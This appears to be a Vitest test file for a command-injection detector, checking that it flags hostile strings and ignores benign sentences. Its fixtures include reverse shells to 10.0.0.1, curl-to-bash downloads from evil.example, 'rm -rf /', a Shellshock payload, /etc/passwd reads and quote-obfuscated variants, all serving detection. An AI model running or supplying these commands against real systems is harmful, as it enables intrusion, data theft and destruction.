import { describe, expect, it } from "vitest";

import { findingsOf, matchedText } from "../test-support/findings.js";

function commandFindings(text: string) {
  return findingsOf(text, "command-injection", "COMMAND_INJECTION");
}

describe("commandInjectionDetector", () => {
  it.each([
    ["chained-command", "127.0.0.1; rm -rf /tmp/x"],
    ["chained-command", "file.txt && curl http://evil.example/x"],
    ["chained-command", "a | nc evil.example 4444"],
    ["file-read", "name=x; cat /etc/passwd"],
    ["command-substitution", "user=$(whoami)"],
    ["command-substitution", "echo x`id`"],
    ["reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["reverse-shell", "nc -e /bin/sh 10.0.0.1 4444"],
    ["download-execute", "curl -s http://evil.example/i.sh | bash"],
    [
      "download-execute",
      "wget http://evil.example/x -O /tmp/x; chmod +x /tmp/x",
    ],
    ["destructive", "sudo rm -rf / --no-preserve-root"],
    ["shellshock", "() { :;}; /bin/bash -c id"],
    ["account-takeover", "& net user hacker Passw0rd /add"],
  ])("flags %s in %j", (subtype, text) => {
    const findings = commandFindings(text);

    expect(findings.map((finding) => finding.subtype)).toContain(subtype);
    expect(findings[0]?.score).toBeGreaterThanOrEqual(0.8);
  });

  it("locates the chained command in a longer sentence", () => {
    const text =
      "Rename the file to report.pdf; wget http://evil.example/a.sh please.";
    const finding = commandFindings(text)[0];

    expect(matchedText(text, finding)).toBe("; wget http://evil.example/a.sh");
  });

  it("flags a newline injected as an escape", () => {
    expect(commandFindings("x\\nid;")[0]?.score).toBeGreaterThanOrEqual(0.8);
  });

  it.each([
    "Tom & Jerry is a cartoon; cat food is on sale.",
    "| id | name | type |",
    "Echo is a nymph in Greek myth; ping me later.",
    "Run `ls -la` to see hidden files.",
    "We met at 5 pm & then we went home; sleep is important.",
  ])("ignores the benign text %j", (text) => {
    const findings = commandFindings(text);

    expect(findings.every((finding) => finding.score < 0.6)).toBe(true);
  });

  it.each([
    ["download-execute", "w'g'e't http://evil.example/x -O- | s'h'"],
    ["file-read", '; c"a"t /e"t"c/p"a"s"s"w"d"'],
    ["destructive", "&& r\\m -rf /"],
    ["file-read", ";cat${IFS}/etc/passwd"],
  ])("flags %s with its command split for the shell", (subtype, text) => {
    const findings = commandFindings(text);

    expect(findings.map((finding) => finding.subtype)).toContain(subtype);
    expect(findings[0]?.score).toBeGreaterThanOrEqual(0.8);
  });

  it("reads a line break written as such as the end of a line", () => {
    const text = "Run the following:\nls -la";

    expect(commandFindings(text)[0]?.subtype).toBe("command-line");
  });
});
